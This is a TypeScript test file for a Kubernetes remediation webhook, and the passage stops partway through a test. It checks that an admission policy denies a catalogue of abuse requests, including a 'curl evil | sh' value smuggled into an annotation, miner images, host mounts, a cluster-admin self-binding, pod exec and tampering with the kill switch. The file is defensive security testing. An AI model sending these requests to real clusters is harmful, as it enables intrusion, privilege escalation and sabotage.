import { readFileSync } from 'node:fs';
import { requirementsOf } from '../../constructs/remediation-webhook/permissions';
import { type Attempt, restartWorkload, scaleUp } from '../../remediation';
import { METADATA } from '../../remediation/actions/allowed-update';
import { type ScaleUp, scaleUpAction } from '../../remediation/actions/scale-up';
import { checkRights } from '../../remediation/intake/readiness';
import { KubernetesClient } from '../../remediation/kubernetes';
import { KEYS } from '../../remediation/record';
import { type Kubernetes, makeNamespace, startKubernetes } from '../../testing/kubernetes';
import { waitFor } from '../../testing/server';
import { type Deployed, deployWebhook, MONITORING } from '../../testing/webhook';
import { APPLY, type ApiRequest, apiAs, errorOf, STRATEGIC } from './support/api';

const APPLICATION = 'sightedit';
const FENCE = `${MONITORING}-remediation-webhook`;
const MAX_REPLICAS = 6;
const RESTARTED_AT = 'kubectl.kubernetes.io/restartedAt';

/** Metadata that the API server sets itself, or that never changes. */
const OF_THE_API_SERVER = [
  ...['name', 'namespace', 'uid', 'selfLink', 'resourceVersion', 'generation', 'managedFields'],
  ...['creationTimestamp', 'deletionTimestamp', 'deletionGracePeriodSeconds'],
];

/** kubectl prints `configured` for these even without a change; see kubernetes.e2e.ts. */
const ALWAYS_SENT = 'poddisruptionbudget.policy/';

const POLICIES = [
  restartWorkload({
    namespace: APPLICATION,
    deployments: ['backend', 'applied', 'rolling', 'not-opted-in', 'not-there'],
    verification: { query: 'vector(1)' },
  }),
  scaleUp({
    namespace: APPLICATION,
    deployments: ['backend', 'stopped'],
    autoscalers: ['backend'],
    maxReplicas: MAX_REPLICAS,
    verification: { query: 'vector(1)' },
  }),
];

let kubernetes: Kubernetes;
let deployed: Deployed;
/** With the token of the webhook's ServiceAccount. */
let asWebhook: ReturnType<typeof apiAs>;
let asAdministrator: ReturnType<typeof apiAs>;

beforeAll(async () => {
  kubernetes = await startKubernetes(['validatingadmissionpolicy-status-controller']);
  await makeNamespace(kubernetes, APPLICATION);
  deployed = await deployWebhook(kubernetes, POLICIES);
  asWebhook = apiAs(kubernetes, deployed.tokenFile);
  asAdministrator = apiAs(kubernetes);
  for (const [collection, object] of OBJECTS) {
    expect(errorOf(await asAdministrator({ method: 'POST', path: collection, body: object }))).toBeUndefined();
  }
  for (const name of ['backend', 'applied', 'not-opted-in']) {
    await rollOut(name);
  }
  for (const phase of ['executing', 'verifying']) {
    const moved = patch(`${RECORDS}/executed/status`, { status: { ...EXECUTED, phase } });
    expect(errorOf(await asAdministrator(moved))).toBeUndefined();
  }
});
afterAll(() => kubernetes?.stop());

const CORE = `/api/v1/namespaces/${APPLICATION}`;
const APPS = `/apis/apps/v1/namespaces/${APPLICATION}/deployments`;
const AUTOSCALERS = `/apis/autoscaling/v2/namespaces/${APPLICATION}/horizontalpodautoscalers`;
const AUTOSCALERS_V1 = `/apis/autoscaling/v1/namespaces/${APPLICATION}/horizontalpodautoscalers`;
const RECORDS = `/apis/monitoring.sightedit.com/v1alpha1/namespaces/${MONITORING}/remediations`;
const LEASES = `/apis/coordination.k8s.io/v1/namespaces/${MONITORING}/leases`;

const CONTAINER = { name: 'server', image: 'sightedit/backend:1', env: [{ name: 'MODE', value: 'fast' }] };
const LABELS = { app: 'sightedit' };

function deployment(name: string, changes: { labels?: object; replicas?: number } = {}) {
  return {
    apiVersion: 'apps/v1',
    kind: 'Deployment',
    metadata: { name, labels: changes.labels ?? { [KEYS.optIn]: 'enabled' }, annotations: { owner: 'team' } },
    spec: {
      replicas: changes.replicas ?? 2,
      selector: { matchLabels: LABELS },
      template: {
        metadata: { labels: LABELS, annotations: { version: '1' } },
        spec: { containers: [CONTAINER] },
      },
    },
  };
}

function autoscaler(name: string) {
  return {
    apiVersion: 'autoscaling/v2',
    kind: 'HorizontalPodAutoscaler',
    metadata: { name, annotations: { owner: 'team' } },
    spec: {
      minReplicas: 2,
      maxReplicas: 10,
      scaleTargetRef: { apiVersion: 'apps/v1', kind: 'Deployment', name: 'backend' },
      metrics: [
        { type: 'Resource', resource: { name: 'cpu', target: { type: 'Utilization', averageUtilization: 70 } } },
      ],
    },
  };
}

function event(name: string, reportingComponent: string) {
  return {
    metadata: { name },
    involvedObject: { apiVersion: 'apps/v1', kind: 'Deployment', name: 'backend', namespace: APPLICATION },
    reason: 'RemediationSample',
    message: 'Something happened',
    type: 'Normal',
    count: 1,
    reportingComponent,
    reportingInstance: 'sample',
    source: { component: reportingComponent },
  };
}

function record(name: string, annotations: object = {}, metadata: object = {}) {
  return {
    apiVersion: 'monitoring.sightedit.com/v1alpha1',
    kind: 'Remediation',
    metadata: { name, annotations, ...metadata },
    spec: {
      policy: 'restart-workload',
      action: 'restart-workload',
      attempt: 1,
      traceparent: '',
      alert: { name: 'A', fingerprint: 'aa', startsAt: '2026-01-01T00:00:00Z', labels: {}, annotations: {} },
    },
  };
}

/** `MicroTime` of a moment that is some seconds away. */
const inSeconds = (seconds: number) =>
  new Date(Date.now() + seconds * 1000).toISOString().replace(/(\.\d{3})Z$/, '$1000Z');

function lease(name: string, spec: object = {}, metadata: object = {}) {
  return {
    metadata: { name, ...metadata },
    spec: { holderIdentity: 'somebody', leaseDurationSeconds: 60, renewTime: inSeconds(0), ...spec },
  };
}

/** A record that was executed, and whose change is to be reverted. */
const EXECUTED = {
  phase: 'verifying',
  dryRun: true,
  target: { kind: 'Deployment', namespace: APPLICATION, name: 'backend' },
  plan: { summary: 'raise', details: { to: 3 } },
  executionStartTime: '2026-01-02T03:04:05Z',
  expirationTime: '2026-01-02T04:04:05Z',
};

/** A Deployment whose rollout is complete, as its controller says. */
const ROLLED_OUT = { observedGeneration: 1, replicas: 2, updatedReplicas: 2, readyReplicas: 2, availableReplicas: 2 };

/** Objects that exist before the tests. */
const OBJECTS: readonly (readonly [
  string,
  { readonly metadata: { readonly name: string }; readonly [field: string]: unknown },
])[] = [
  [APPS, deployment('backend')],
  [APPS, deployment('not-opted-in', { labels: {} })],
  [APPS, deployment('stopped', { replicas: 0 })],
  [APPS, deployment('elsewhere')],
  [APPS, deployment('applied')],
  [APPS, deployment('rolling')],
  ['/apis/apps/v1/namespaces/default/deployments', deployment('backend')],
  [AUTOSCALERS, autoscaler('backend')],
  [AUTOSCALERS, autoscaler('elsewhere')],
  [`${CORE}/pods`, { metadata: { name: 'pod' }, spec: { containers: [CONTAINER] } }],
  [`${CORE}/secrets`, { metadata: { name: 'secret' }, stringData: { PASSWORD: 'not-a-real-password' } }],
  [`${CORE}/services`, { metadata: { name: 'service' }, spec: { ports: [{ port: 80 }] } }],
  [`${CORE}/events`, event('evidence', 'kubelet')],
  [`${CORE}/events`, event('written', 'remediation-webhook')],
  [RECORDS, record('waits')],
  [RECORDS, record('executed')],
  [RECORDS, record('held', {}, { finalizers: ['example.com/held'] })],
  [LEASES, lease('of-somebody-else')],
  [LEASES, lease('remediation-budget-total-0')],
  [LEASES, lease('remediation-held-lock')],
];

/** A merge patch of the template of a pod. */
const template = (change: object) => patch(`${APPS}/backend`, { spec: { template: change } });
const patch = (path: string, body: object): ApiRequest => ({ method: 'PATCH', path, body });
const restart = (path: string, annotations: object = { [RESTARTED_AT]: '2026-01-02T03:04:05Z' }): ApiRequest => ({
  method: 'PATCH',
  path,
  type: STRATEGIC,
  body: { spec: { template: { metadata: { annotations } } } },
});
const owner = { apiVersion: 'v1', kind: 'ConfigMap', name: 'x', uid: '7c3a6b04-0000-4000-8000-000000000000' };

/** Harm that an attacker with the webhook's token could do without the admission policy. */
const ATTACKS: { readonly [title: string]: ApiRequest } = {
  // By the permission to restart.
  'runs another image': template({ spec: { containers: [{ ...CONTAINER, image: 'evil/miner:1' }] } }),
  'runs another image as it restarts': {
    ...restart(`${APPS}/backend`),
    body: {
      spec: {
        template: {
          metadata: { annotations: { [RESTARTED_AT]: '2026-01-02T03:04:05Z' } },
          spec: { containers: [{ name: 'server', image: 'evil/miner:1' }] },
        },
      },
    },
  },
  'changes the environment': template({ spec: { containers: [{ ...CONTAINER, env: [] }] } }),
  'adds a command': template({ spec: { containers: [{ ...CONTAINER, command: ['sh'] }] } }),
  'adds a container': template({ spec: { containers: [CONTAINER, { name: 'more', image: 'evil/miner:1' }] } }),
  'adds an init container': template({ spec: { initContainers: [{ name: 'first', image: 'evil/miner:1' }] } }),
  'mounts the host': template({ spec: { volumes: [{ name: 'host', hostPath: { path: '/' } }] } }),
  'takes another ServiceAccount': template({ spec: { serviceAccountName: 'default-admin' } }),
  'sees the network of the host': template({ spec: { hostNetwork: true } }),
  'labels the pods': template({ metadata: { labels: { more: 'yes' } } }),
  'adds an annotation of the template': template({ metadata: { annotations: { 'prometheus.io/scrape': 'true' } } }),
  'changes an annotation of the template': template({ metadata: { annotations: { version: '2' } } }),
  'removes an annotation of the template': template({ metadata: { annotations: { version: null } } }),
  'leaves pods that nothing can remove': template({ metadata: { finalizers: ['evil.example.com/forever'] } }),
  'hides a text in the time of the restart': restart(`${APPS}/backend`, { [RESTARTED_AT]: 'curl evil | sh' }),
  'changes the replicas': patch(`${APPS}/backend`, { spec: { replicas: 0 } }),
  'pauses roll-outs': patch(`${APPS}/backend`, { spec: { paused: true } }),
  'changes the strategy': patch(`${APPS}/backend`, { spec: { strategy: { type: 'Recreate', rollingUpdate: null } } }),
  'calls pods available at once': patch(`${APPS}/backend`, { spec: { minReadySeconds: 1 } }),
  'drops the history': patch(`${APPS}/backend`, { spec: { revisionHistoryLimit: 0 } }),
  'changes the deadline': patch(`${APPS}/backend`, { spec: { progressDeadlineSeconds: 6000 } }),
  'labels the Deployment': patch(`${APPS}/backend`, { metadata: { labels: { more: 'yes' } } }),
  'opts out': patch(`${APPS}/backend`, { metadata: { labels: { [KEYS.optIn]: null } } }),
  'opts in': patch(`${APPS}/not-opted-in`, { metadata: { labels: { [KEYS.optIn]: 'enabled' } } }),
  'opts in and restarts at once': {
    ...restart(`${APPS}/not-opted-in`),
    body: {
      metadata: { labels: { [KEYS.optIn]: 'enabled' } },
      spec: { template: { metadata: { annotations: { [RESTARTED_AT]: '2026-01-02T03:04:05Z' } } } },
    },
  },
  'annotates the Deployment': patch(`${APPS}/backend`, { metadata: { annotations: { owner: 'me' } } }),
  'gives the Deployment an owner': patch(`${APPS}/backend`, { metadata: { ownerReferences: [owner] } }),
  'drops what others have applied': patch(`${APPS}/applied`, { metadata: { managedFields: [{}] } }),
  'claims what others have applied': patch(`${APPS}/applied`, {
    metadata: {
      managedFields: [
        {
          manager: 'evil',
          operation: 'Apply',
          apiVersion: 'apps/v1',
          fieldsType: 'FieldsV1',
          fieldsV1: { 'f:spec': { 'f:replicas': {} } },
        },
      ],
    },
  }),
  'applies the time of a restart': {
    method: 'PATCH',
    path: `${APPS}/applied?fieldManager=evil&force=true`,
    type: APPLY,
    body: {
      apiVersion: 'apps/v1',
      kind: 'Deployment',
      metadata: { name: 'applied' },
      spec: { template: { metadata: { annotations: { [RESTARTED_AT]: '2026-01-09T03:04:05Z' } } } },
    },
  },
  'adds a finalizer': patch(`${APPS}/backend`, { metadata: { finalizers: ['evil.example.com/forever'] } }),
  'restarts what is being rolled out': restart(`${APPS}/rolling`),
  'restarts what did not opt in': restart(`${APPS}/not-opted-in`),
  'restarts what no policy names': restart(`${APPS}/elsewhere`),
  'restarts what is called alike elsewhere': restart('/apis/apps/v1/namespaces/default/deployments/backend'),
  'replaces the Deployment': {
    method: 'PUT',
    path: `${APPS}/backend`,
    body: { ...deployment('backend'), spec: { ...deployment('backend').spec, replicas: 1 } },
  },
  'applies over the Deployment': {
    method: 'PATCH',
    path: `${APPS}/backend?fieldManager=evil&force=true`,
    type: APPLY,
    body: { apiVersion: 'apps/v1', kind: 'Deployment', metadata: { name: 'backend' }, spec: { replicas: 1 } },
  },
  'applies a Deployment that is not there': {
    method: 'PATCH',
    path: `${APPS}/not-there?fieldManager=evil`,
    type: APPLY,
    body: deployment('not-there'),
  },
  'creates a Deployment': { method: 'POST', path: APPS, body: deployment('not-there') },
  'deletes a Deployment': { method: 'DELETE', path: `${APPS}/backend` },
  'deletes all Deployments': { method: 'DELETE', path: APPS },
  'lies about the status': patch(`${APPS}/backend/status`, { status: { replicas: 9 } }),

  // By the permission to scale.
  'scales down': patch(`${APPS}/backend/scale`, { spec: { replicas: 1 } }),
  'scales above maxReplicas': patch(`${APPS}/backend/scale`, { spec: { replicas: MAX_REPLICAS + 1 } }),
  'scales what no policy names': patch(`${APPS}/elsewhere/scale`, { spec: { replicas: 3 } }),
  'starts what is stopped': patch(`${APPS}/stopped/scale`, { spec: { replicas: 1 } }),
  'raises the maximum': patch(`${AUTOSCALERS}/backend`, { spec: { maxReplicas: 100 } }),
  'scales something else': patch(`${AUTOSCALERS}/backend`, { spec: { scaleTargetRef: { name: 'elsewhere' } } }),
  'changes what is measured': patch(`${AUTOSCALERS}/backend`, {
    spec: {
      metrics: [
        { type: 'Resource', resource: { name: 'cpu', target: { type: 'Utilization', averageUtilization: 1 } } },
      ],
    },
  }),
  'changes how it scales': patch(`${AUTOSCALERS}/backend`, {
    spec: { behavior: { scaleUp: { stabilizationWindowSeconds: 3600 } } },
  }),
  'raises minReplicas above maxReplicas': minReplicas(MAX_REPLICAS + 1, `${MAX_REPLICAS + 1} from 2`),
  'raises minReplicas without a note': minReplicas(3),
  'notes a wrong previous value': minReplicas(3, '3 from 1'),
  "lowers the owner's minReplicas": minReplicas(1),
  "lowers the owner's minReplicas with a note": minReplicas(1, '2 from 1'),
  'notes a raise that it has not made': minReplicas(2, '2 from 1'),
  'changes what is measured, through an older version': patch(`${AUTOSCALERS_V1}/backend`, {
    spec: { targetCPUUtilizationPercentage: 1 },
  }),
  'lowers minReplicas, through an older API version': patch(`${AUTOSCALERS_V1}/backend`, { spec: { minReplicas: 1 } }),
  'labels the autoscaler': patch(`${AUTOSCALERS}/backend`, { metadata: { labels: { more: 'yes' } } }),
  'annotates the autoscaler': patch(`${AUTOSCALERS}/backend`, { metadata: { annotations: { owner: 'me' } } }),
  'gives the autoscaler an owner': patch(`${AUTOSCALERS}/backend`, { metadata: { ownerReferences: [owner] } }),
  'keeps the autoscaler from being removed': patch(`${AUTOSCALERS}/backend`, {
    metadata: { finalizers: ['evil.example.com/forever'] },
  }),
  'raises minReplicas of an autoscaler that no policy names': {
    ...minReplicas(3, '3 from 2'),
    path: `${AUTOSCALERS}/elsewhere`,
  },
  'lies about the status of the autoscaler': patch(`${AUTOSCALERS}/backend/status`, { status: { desiredReplicas: 9 } }),
  'deletes the autoscaler': { method: 'DELETE', path: `${AUTOSCALERS}/backend` },

  // Pods and their subresources.
  'creates a pod': {
    method: 'POST',
    path: `${CORE}/pods`,
    body: { metadata: { generateName: 'evil-' }, spec: { containers: [CONTAINER] } },
  },
  'deletes a pod': { method: 'DELETE', path: `${CORE}/pods/pod` },
  'deletes all pods': { method: 'DELETE', path: `${CORE}/pods` },
  'evicts a pod': {
    method: 'POST',
    path: `${CORE}/pods/pod/eviction`,
    body: { apiVersion: 'policy/v1', kind: 'Eviction', metadata: { name: 'pod' } },
  },
  'debugs a pod': {
    method: 'PATCH',
    path: `${CORE}/pods/pod/ephemeralcontainers`,
    type: STRATEGIC,
    body: { spec: { ephemeralContainers: [{ name: 'debug', image: 'evil/miner:1' }] } },
  },
  'binds a pod to a node': {
    method: 'POST',
    path: `${CORE}/pods/pod/binding`,
    body: { metadata: { name: 'pod' }, target: { kind: 'Node', name: 'somewhere' } },
  },
  'lies about the status of a pod': patch(`${CORE}/pods/pod/status`, { status: { phase: 'Failed' } }),

  // Privilege escalation.
  'makes a token of somebody else': {
    method: 'POST',
    path: `${CORE}/serviceaccounts/default/token`,
    body: { apiVersion: 'authentication.k8s.io/v1', kind: 'TokenRequest', spec: {} },
  },
  'makes a token of itself': {
    method: 'POST',
    path: `/api/v1/namespaces/${MONITORING}/serviceaccounts/remediation-webhook/token`,
    body: { apiVersion: 'authentication.k8s.io/v1', kind: 'TokenRequest', spec: {} },
  },
  'gives itself a role': {
    method: 'POST',
    path: '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings',
    body: {
      metadata: { name: 'evil' },
      roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
      subjects: [{ kind: 'ServiceAccount', name: 'remediation-webhook', namespace: MONITORING }],
    },
  },
  'changes its roles': patch(
    `/apis/rbac.authorization.k8s.io/v1/namespaces/${APPLICATION}/roles/${MONITORING}-remediation-webhook`,
    { rules: [{ apiGroups: [''], resources: ['secrets'], verbs: ['get'] }] },
  ),
  'creates a Secret': { method: 'POST', path: `${CORE}/secrets`, body: { metadata: { name: 'evil' } } },
  'changes a Secret': patch(`${CORE}/secrets/secret`, { stringData: { PASSWORD: 'mine' } }),
  'deletes a Secret': { method: 'DELETE', path: `${CORE}/secrets/secret` },
  'registers a node': { method: 'POST', path: '/api/v1/nodes', body: { metadata: { name: 'evil' } } },
  'creates a namespace': { method: 'POST', path: '/api/v1/namespaces', body: { metadata: { name: 'evil' } } },
  'deletes a namespace': { method: 'DELETE', path: `/api/v1/namespaces/${APPLICATION}` },
  'labels a namespace': patch(`/api/v1/namespaces/${APPLICATION}`, { metadata: { labels: { evil: 'yes' } } }),
  'opens the network': {
    method: 'POST',
    path: `/apis/networking.k8s.io/v1/namespaces/${APPLICATION}/networkpolicies`,
    body: { metadata: { name: 'evil' }, spec: { podSelector: {}, ingress: [{}] } },
  },
  'changes the definition of the records': patch(
    '/apis/apiextensions.k8s.io/v1/customresourcedefinitions/remediations.monitoring.sightedit.com',
    { metadata: { labels: { evil: 'yes' } } },
  ),

  // Its own safeguards.
  'changes the kill switch': patch(`/api/v1/namespaces/${MONITORING}/configmaps/remediation-webhook-switch`, {
    data: { armed: 'false' },
  }),
  'deletes the kill switch': {
    method: 'DELETE',
    path: `/api/v1/namespaces/${MONITORING}/configmaps/remediation-webhook-switch`,
  },
  'changes its configuration': patch(`/api/v1/namespaces/${MONITORING}/configmaps/remediation-webhook-config`, {
    data: { 'remediation.json': '{}' },
  }),
  'approves what it asks for': patch(`${RECORDS}/waits`, { metadata: { annotations: { [KEYS.approved]: 'true' } } }),
  'approves what it asks for by applying': {
    method: 'PATCH',
    path: `${RECORDS}/waits?fieldManager=evil`,
    type: APPLY,
    body: {
      apiVersion: 'monitoring.sightedit.com/v1alpha1',
      kind: 'Remediation',
      metadata: { name: 'waits', annotations: { [KEYS.approved]: 'true' } },
    },
  },
  'asks for what is approved already': {
    method: 'POST',
    path: RECORDS,
    body: record('approved', { [KEYS.approved]: 'true' }),
  },
  'makes a record elsewhere': {
    method: 'POST',
    path: RECORDS.replace(MONITORING, APPLICATION),
    body: record('elsewhere'),
  },
  'deletes all records': { method: 'DELETE', path: RECORDS },
  'deletes a record whose change is not reverted': { method: 'DELETE', path: `${RECORDS}/executed` },
  'deletes a record that waits': { method: 'DELETE', path: `${RECORDS}/waits` },
  'makes a record that cannot be deleted': {
    method: 'POST',
    path: RECORDS,
    body: record('forever', {}, { finalizers: ['evil.example.com/forever'] }),
  },
  'keeps a record from being deleted': patch(`${RECORDS}/waits`, {
    metadata: { finalizers: ['evil.example.com/forever'] },
  }),
  "removes somebody else's finalizer": patch(`${RECORDS}/held`, { metadata: { finalizers: null } }),
  'gives a record an owner': patch(`${RECORDS}/waits`, { metadata: { ownerReferences: [owner] } }),
  'labels a record for others': patch(`${RECORDS}/waits`, { metadata: { labels: { 'example.com/x': 'yes' } } }),
  'hides a text in an annotation of a record': patch(`${RECORDS}/waits`, {
    metadata: { annotations: { 'monitoring.sightedit.com/x': 'x'.repeat(1025) } },
  }),
  'says that a record succeeded that was not executed': patch(`${RECORDS}/waits/status`, {
    status: { phase: 'succeeded' },
  }),
  'verifies what was not executed': patch(`${RECORDS}/waits/status`, { status: { phase: 'verifying' } }),
  'executes a record again': patch(`${RECORDS}/executed/status`, { status: { phase: 'executing' } }),
  'rewinds a record': patch(`${RECORDS}/executed/status`, { status: { phase: 'accepted' } }),
  'turns a dry run into a change': patch(`${RECORDS}/executed/status`, { status: { dryRun: false } }),
  'forgets that it is a dry run': patch(`${RECORDS}/executed/status`, { status: { dryRun: null } }),
  'changes the target of what was executed': patch(`${RECORDS}/executed/status`, {
    status: { target: { kind: 'Address', name: '0.0.0.0/0', namespace: null } },
  }),
  'changes the plan of what was executed': patch(`${RECORDS}/executed/status`, {
    status: { plan: { details: { to: 20 } } },
  }),
  'leaves a change for ever': patch(`${RECORDS}/executed/status`, { status: { expirationTime: null } }),
  'changes when it was executed': patch(`${RECORDS}/executed/status`, {
    status: { executionStartTime: '2020-01-02T03:04:05Z' },
  }),
  'locks a target until 2099': {
    method: 'POST',
    path: LEASES,
    body: lease('remediation-lock', { renewTime: '2099-01-01T00:00:00.000000Z' }),
  },
  'locks a target for a day': {
    method: 'POST',
    path: LEASES,
    body: lease('remediation-lock', { leaseDurationSeconds: 86_400 }),
  },
  'makes a lease that cannot be deleted': {
    method: 'POST',
    path: LEASES,
    body: lease('remediation-lock', {}, { finalizers: ['evil.example.com/forever'] }),
  },
  'keeps a lease from being deleted': patch(`${LEASES}/remediation-held-lock`, {
    metadata: { finalizers: ['evil.example.com/forever'] },
  }),
  'makes a lease with a long holder': {
    method: 'POST',
    path: LEASES,
    body: lease('remediation-lock', { holderIdentity: 'x'.repeat(513) }),
  },
  'renews a lock until tomorrow': patch(`${LEASES}/remediation-held-lock`, {
    spec: { renewTime: inSeconds(86_400) },
  }),
  'takes over a lock': patch(`${LEASES}/remediation-held-lock`, { spec: { holderIdentity: 'me' } }),
  'renews a slot of a budget': patch(`${LEASES}/remediation-budget-total-0`, { spec: { renewTime: inSeconds(60) } }),
  'takes the lease of somebody else': patch(`${LEASES}/of-somebody-else`, { spec: { holderIdentity: 'me' } }),
  'deletes the lease of somebody else': { method: 'DELETE', path: `${LEASES}/of-somebody-else` },
  'deletes all leases': { method: 'DELETE', path: LEASES },
  'makes a lease elsewhere': {
    method: 'POST',
    path: LEASES.replace(MONITORING, APPLICATION),
    body: lease('remediation-lock'),
  },
  'changes an Event of somebody else': patch(`${CORE}/events/evidence`, { message: 'Nothing happened' }),
  'takes over an Event of somebody else': patch(`${CORE}/events/evidence`, {
    reportingComponent: 'remediation-webhook',
  }),
  'speaks for somebody else': { method: 'POST', path: `${CORE}/events`, body: event('lie', 'kubelet') },
  'speaks for the kubelet in one field': {
    method: 'POST',
    path: `${CORE}/events`,
    body: { ...event('lie', 'remediation-webhook'), source: { component: 'kubelet' } },
  },
  'speaks for a node': {
    method: 'POST',
    path: `${CORE}/events`,
    body: { ...event('lie', 'remediation-webhook'), source: { component: 'remediation-webhook', host: 'node-1' } },
  },
  'says that scheduling failed': {
    method: 'POST',
    path: `${CORE}/events`,
    body: { ...event('lie', 'remediation-webhook'), reason: 'FailedScheduling' },
  },
  'writes a long Event': {
    method: 'POST',
    path: `${CORE}/events`,
    body: { ...event('long', 'remediation-webhook'), message: 'x'.repeat(1025) },
  },
  'changes what its Event says': patch(`${CORE}/events/written`, { message: 'Nothing happened' }),
  'deletes an Event': { method: 'DELETE', path: `${CORE}/events/evidence` },
  'leaves an Event elsewhere': {
    method: 'POST',
    path: '/api/v1/namespaces/default/events',
    body: {
      ...event('elsewhere', 'remediation-webhook'),
      involvedObject: { kind: 'Deployment', name: 'backend', namespace: 'default' },
    },
  },
};

/** Connections into running pods and through the API server. There are no nodes here, so nothing would answer. */
const CONNECTIONS: { readonly [title: string]: ApiRequest } = {
  'runs a command in a pod': { method: 'POST', path: `${CORE}/pods/pod/exec?command=sh&stdout=true` },
  'runs a command in a pod by GET': { method: 'GET', path: `${CORE}/pods/pod/exec?command=sh&stdout=true` },
  'attaches to a pod': { method: 'POST', path: `${CORE}/pods/pod/attach?stdout=true` },
  'forwards a port': { method: 'POST', path: `${CORE}/pods/pod/portforward?ports=80` },
  'speaks to a pod': { method: 'GET', path: `${CORE}/pods/pod/proxy/` },
  'speaks to a service': { method: 'GET', path: `${CORE}/services/service:80/proxy/` },
};

/** A change of the autoscaler's minReplicas and of its note; `null` removes the note. */
function minReplicas(minReplicas: number, note?: string | null): ApiRequest {
  const annotations = note === undefined ? undefined : { [KEYS.raisedMinReplicas]: note };
  return patch(`${AUTOSCALERS}/backend`, { metadata: { annotations }, spec: { minReplicas } });
}

const withDryRun = (request: ApiRequest): ApiRequest => ({
  ...request,
  path: `${request.path}${request.path.includes('?') ? '&' : '?'}dryRun=All`,
});

/** Does what the Deployment's controller does at the end of a rollout. */
async function rollOut(name: string): Promise<void> {
  const { metadata } = (await asAdministrator({ method: 'GET', path: `${APPS}/${name}` })).body;
  const status = { ...ROLLED_OUT, observedGeneration: metadata.generation };
  expect(errorOf(await asAdministrator(patch(`${APPS}/${name}/status`, { status })))).toBeUndefined();
}

/** The message of the admission policy. RBAC and validation have other messages. */
const DENIED = /^403 .*ValidatingAdmissionPolicy 'sightedit-monitoring-remediation-webhook' .*denied request: /;

/** The problems that the webhook itself reports about its rights. */
async function wrongRights(): Promise<readonly string[]> {
  const client = new KubernetesClient({ ...kubernetes.connection, tokenFile: deployed.tokenFile });
  try {
    return await checkRights(client, deployed.configuration);
  } finally {
    client.close();
  }
}

describe('the rights of the webhook', () => {
  const may = async (...question: readonly string[]) =>
    (
      await kubernetes.kubectl(
        ...['auth', 'can-i', ...question, `--as=system:serviceaccount:${MONITORING}:remediation-webhook`],
      )
    ).stdout.trim();

  test.each([
    ['get', 'secrets', '--all-namespaces'],
    ['get', 'configmaps', `--namespace=${APPLICATION}`],
    ['get', 'configmaps', `--namespace=${MONITORING}`],
    ['list', 'configmaps', `--namespace=${MONITORING}`],
    ['list', 'deployments.apps', `--namespace=${APPLICATION}`],
    ['get', 'deployments.apps/elsewhere', `--namespace=${APPLICATION}`],
    ['get', 'pods', `--subresource=log`, `--namespace=${APPLICATION}`],
    ['list', 'nodes'],
    ['list', 'namespaces'],
    ['impersonate', 'users'],
    ['impersonate', 'serviceaccounts', '--all-namespaces'],
    ['create', 'serviceaccounts', '--subresource=token', `--namespace=${MONITORING}`],
    // No admission policy guards admission policies: https://kubernetes.io/docs/reference/access-authn-authz/validating-admission-policy/
    ['delete', 'validatingadmissionpolicies.admissionregistration.k8s.io'],
    ['patch', 'validatingadmissionpolicybindings.admissionregistration.k8s.io'],
  ])('do not let it %s %s %s %s', async (...question) => {
    expect(await may(...question.filter(Boolean))).toBe('no');
  });

  test('are checked before it is ready', async () => {
    expect(await wrongRights()).toEqual([]);
  });

  test('let it read its targets and its kill switch', async () => {
    expect(await may('get', 'deployments.apps/backend', `--namespace=${APPLICATION}`)).toBe('yes');
    expect(await may('get', 'configmaps/remediation-webhook-switch', `--namespace=${MONITORING}`)).toBe('yes');
  });
});

describe('the admission policy, for a webhook that RBAC allows everything', () => {
  const stateOf = async () =>
    Promise.all(
      OBJECTS.map(async ([collection, { metadata }]) => {
        const path = `${collection}/${metadata.name}`;
        return [path, (await asAdministrator({ method: 'GET', path })).body.metadata.resourceVersion];
      }),
    );
  let before: Awaited<ReturnType<typeof stateOf>>;

  beforeAll(async () => {
    const subject = `--serviceaccount=${MONITORING}:remediation-webhook`;
    await kubernetes.kubectl('create', 'clusterrolebinding', 'everything', '--clusterrole=cluster-admin', subject);
    // The API server needs a moment to load a new policy.
    await waitFor('the update to stand', async () => {
      const answer = await asWebhook(withDryRun({ method: 'DELETE', path: `${APPS}/elsewhere` }));
      return DENIED.test(errorOf(answer) ?? '');
    });
    // A Deployment as GitOps leaves it: applied by the server, and restarted before.
    const applied = { method: 'PATCH', path: `${APPS}/applied?fieldManager=gitops&force=true`, type: APPLY } as const;
    await asAdministrator({ ...applied, body: deployment('applied') });
    await asAdministrator(restart(`${APPS}/applied`));
    before = await stateOf();
  });

  test.each(Object.entries(ATTACKS))('%s: denied, to it alone', async (_title, request) => {
    expect(errorOf(await asWebhook(request))).toMatch(DENIED);
    expect(errorOf(await asWebhook(withDryRun(request)))).toMatch(DENIED);
    // The request itself is valid: the administrator may send it.
    expect(errorOf(await asAdministrator(withDryRun(request)))).toBeUndefined();
  });

  test.each(Object.entries(CONNECTIONS))('%s: denied, to it alone', async (_title, request) => {
    expect(errorOf(await asWebhook(request))).toMatch(DENIED);
    expect(errorOf(await asAdministrator(request))).not.toMatch(DENIED);
  });

  test('is not the only safeguard: with such rights the webhook is not ready', async () => {
    const wrong = await wrongRights();
    for (const right of [
      ...['get secrets', 'create pods/exec', 'delete deployments in sightedit', 'impersonate users'],
      ...[
        'create serviceaccounts/token',
        'patch validatingadmissionpolicies',
        'delete validatingadmissionpolicybindings',
      ],
    ]) {
      expect(wrong).toContain(`RBAC allows ${right}, and must not`);
    }
  });

  test('has left everything as it was', async () => {
    expect(await stateOf()).toEqual(before);
  });
});

describe('the allowed updates', () => {
  const allows = async (request: ApiRequest) => {
    const answer = await asWebhook(request);
    expect(errorOf(answer)).toBeUndefined();
    return answer.body;
  };
  const denies = async (request: ApiRequest) => expect(errorOf(await asWebhook(request))).toMatch(DENIED);

  test('a restart, as a dry run and for real', async () => {
    await allows(withDryRun(restart(`${APPS}/backend`)));
    const { spec } = await allows(restart(`${APPS}/backend`));
    expect(spec.template.metadata.annotations).toEqual({ version: '1', [RESTARTED_AT]: '2026-01-02T03:04:05Z' });
    // The next restart has to wait until the rollout is complete. Repeated after a crash, the same one changes nothing.
    const next = restart(`${APPS}/backend`, { [RESTARTED_AT]: '2026-01-03T03:04:05Z' });
    await denies(next);
    await allows(restart(`${APPS}/backend`));
    await rollOut('backend');
    await allows(next);
    await rollOut('backend');
    await rollOut('applied');
    await allows(restart(`${APPS}/applied`, { [RESTARTED_AT]: '2026-01-03T03:04:05Z' }));
    // Removing the annotation would restart the pods too.
    await denies(template({ metadata: { annotations: { [RESTARTED_AT]: null } } }));
  });

  test('more replicas up to maxReplicas, and never fewer', async () => {
